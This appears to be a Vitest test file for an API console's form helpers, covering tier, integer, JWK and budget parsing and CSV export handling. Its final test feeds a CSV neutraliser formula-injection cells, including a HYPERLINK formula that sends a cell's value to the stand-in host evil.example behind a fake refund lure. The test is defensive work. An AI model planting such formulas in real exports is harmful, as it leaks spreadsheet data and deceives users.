import { describe, expect, it } from 'vitest';
import {
  budgetState,
  joinCsvPages,
  MAX_TIERS,
  neutraliseCsv,
  parseInteger,
  parseJwk,
  parseTiers,
  sortBudgets,
  tierRanges,
  tiersText,
} from '../../../console/forms.js';

describe('console forms', () => {
  it('reads integers typed with Vietnamese thousands separators, and nothing else', () => {
    expect(parseInteger('5.000.000')).toBe(5_000_000);
    expect(parseInteger(' 1 000 ')).toBe(1_000);
    expect(parseInteger('1000000')).toBe(1_000_000);
    expect(parseInteger('0')).toBe(0);
    for (const bad of ['', '1,5', '1.5', '12.34', '-3', '1e3', 'abc', '1.0000', '99999999999999999999']) {
      expect(parseInteger(bad), bad).toBeUndefined();
    }
  });

  it('reads graduated tiers as the API wants them: ascending, the last one open-ended', () => {
    expect(parseTiers('10.000: 500; 300')).toEqual({
      tiers: [{ upTo: 10_000, priceVnd: 500 }, { priceVnd: 300 }],
    });
    expect(parseTiers('1000:500\n5000:400\n0')).toEqual({
      tiers: [{ upTo: 1000, priceVnd: 500 }, { upTo: 5000, priceVnd: 400 }, { priceVnd: 0 }],
    });
    expect(parseTiers('  ')).toEqual({ tiers: [] });
    expect(parseTiers('250')).toEqual({ tiers: [{ priceVnd: 250 }] });
  });

  it('names the first problem of tiers that the API would refuse', () => {
    expect(parseTiers('10.000: 500').error?.code).toBe('lastNotOpen');
    expect(parseTiers('500; 10.000: 300; 200').error?.code).toBe('openBeforeLast');
    expect(parseTiers('5000: 500; 1000: 400; 300').error).toEqual({
      code: 'notAscending',
      params: { value: 1000, previous: 5000 },
    });
    expect(parseTiers('1000: 500; 1000: 400; 300').error?.code).toBe('notAscending');
    expect(parseTiers('mười: 500; 300').error).toEqual({ code: 'number', params: { value: 'mười' } });
    expect(parseTiers('0: 500; 300').error?.code).toBe('number');
    expect(parseTiers('1000: 5,5; 300').error?.code).toBe('number');
    expect(parseTiers('1:2:3; 4').error?.code).toBe('number');
    const many = Array.from({ length: MAX_TIERS + 1 }, (_, i) => `${(i + 1) * 10}: 1`).join(';');
    expect(parseTiers(many).error?.code).toBe('tooMany');
  });

  it('writes tiers back as text it reads, and as call ranges', () => {
    const tiers = [{ upTo: 10_000, priceVnd: 1_500 }, { upTo: 50_000, priceVnd: 400 }, { priceVnd: 300 }];
    expect(tiersText(tiers)).toBe('10.000: 1.500; 50.000: 400; 300');
    expect(parseTiers(tiersText(tiers))).toEqual({ tiers });
    expect(tierRanges(tiers)).toEqual([
      { from: 1, to: 10_000, priceVnd: 1_500 },
      { from: 10_001, to: 50_000, priceVnd: 400 },
      { from: 50_001, priceVnd: 300 },
    ]);
  });

  it('reads a pasted JWK, saying readably what is wrong with text that is not one', () => {
    expect(parseJwk(' {"kty":"EC","crv":"P-256","x":"a","y":"b"} ')).toEqual({
      jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b' },
    });
    expect(parseJwk('').error).toEqual({ code: 'empty' });
    const broken = parseJwk('{"kty": "EC",');
    expect(broken.error?.code).toBe('json');
    expect(broken.error?.detail).toBeTruthy();
    expect(parseJwk('[1]').error?.code).toBe('notObject');
    expect(parseJwk('"EC"').error?.code).toBe('notObject');
    expect(parseJwk('null').error?.code).toBe('notObject');
  });

  it('marks budgets reached, near (from 80 %) or within, and sorts the ones needing attention first', () => {
    expect(budgetState({ capVnd: 1_000_000, spentVnd: 1_000_000, reached: true })).toEqual({
      state: 'reached',
      percent: 100,
    });
    expect(budgetState({ capVnd: 1_000_000, spentVnd: 1_250_000, reached: true })).toEqual({
      state: 'reached',
      percent: 125,
    });
    expect(budgetState({ capVnd: 1_200_000, spentVnd: 1_101_650, reached: false })).toEqual({
      state: 'near',
      percent: 91,
    });
    expect(budgetState({ capVnd: 1_000_000, spentVnd: 800_000, reached: false }).state).toBe('near');
    expect(budgetState({ capVnd: 1_000_000, spentVnd: 799_999, reached: false })).toEqual({
      state: 'within',
      percent: 79,
    });
    expect(budgetState({ capVnd: 1_000_000, spentVnd: 999_999, reached: false }).percent).toBe(99);
    expect(budgetState({ capVnd: 0, spentVnd: 0, reached: true }).state).toBe('reached');
    const item = (agencyName: string, capVnd: number, spentVnd: number) => ({
      agencyId: `ag_${agencyName}`,
      agencyName,
      capVnd,
      enforce: false,
      spentVnd,
      remainingVnd: Math.max(0, capVnd - spentVnd),
      reached: spentVnd >= capVnd,
    });
    const sorted = sortBudgets([
      item('a', 100, 10),
      item('b', 100, 85),
      item('c', 100, 120),
      item('d', 100, 95),
    ]);
    expect(sorted.map((b) => [b.agencyName, b.state])).toEqual([
      ['c', 'reached'],
      ['d', 'near'],
      ['b', 'near'],
      ['a', 'within'],
    ]);
  });

  it('joins the pages of a CSV export under one header and one byte order mark', () => {
    const page1 = '\uFEFFrequestId,at\r\nr1,t1\r\nr2,t2\r\n';
    const page2 = '\uFEFFrequestId,at\r\nr3,t3\r\n';
    expect(joinCsvPages([page1, page2])).toBe('\uFEFFrequestId,at\r\nr1,t1\r\nr2,t2\r\nr3,t3\r\n');
    expect(joinCsvPages([page1])).toBe(page1);
    expect(joinCsvPages([page1, '\uFEFFrequestId,at\r\n'])).toBe(page1);
  });

  it('saves no CSV cell a spreadsheet would run as a formula, keeping numbers and safe files as they are', () => {
    const hostile = [
      '\uFEFFrequestId,amount,idempotencyKey\r\n',
      'r1,-12000,"=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"\r\n',
      'r2,500,-A2:B9\r\n',
      'r3,0,+1\r\n',
      'r4,1.5,@SUM(A1:A9)\r\n',
      'r5,-1,"\t=1+1"\r\n',
      'r6,2,"\r=1+1"\r\n',
      'r7,3, =1+1\r\n',
      'r8,4,\uFF1D1+1\r\n',
    ].join('');
    expect(neutraliseCsv(hostile)).toBe(
      [
        '\uFEFFrequestId,amount,idempotencyKey\r\n',
        `r1,-12000,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"\r\n`,
        `r2,500,"'-A2:B9"\r\n`,
        `r3,0,"'+1"\r\n`,
        `r4,1.5,"'@SUM(A1:A9)"\r\n`,
        `r5,-1,"'\t=1+1"\r\n`,
        `r6,2,"'\r=1+1"\r\n`,
        `r7,3,"' =1+1"\r\n`,
        `r8,4,"'\uFF1D1+1"\r\n`,
      ].join(''),
    );
    // What the gateway sends is already safe: the console leaves it byte for byte, never quoting twice.
    const safe = neutraliseCsv(hostile);
    expect(neutraliseCsv(safe)).toBe(safe);
    const statement = '\uFEFFDòng / Line,citizen:read,,,,3,3,0,,1500\r\n"Bảo hiểm, ""BHXH""",-500\r\n';
    expect(neutraliseCsv(statement)).toBe(statement);
  });
});
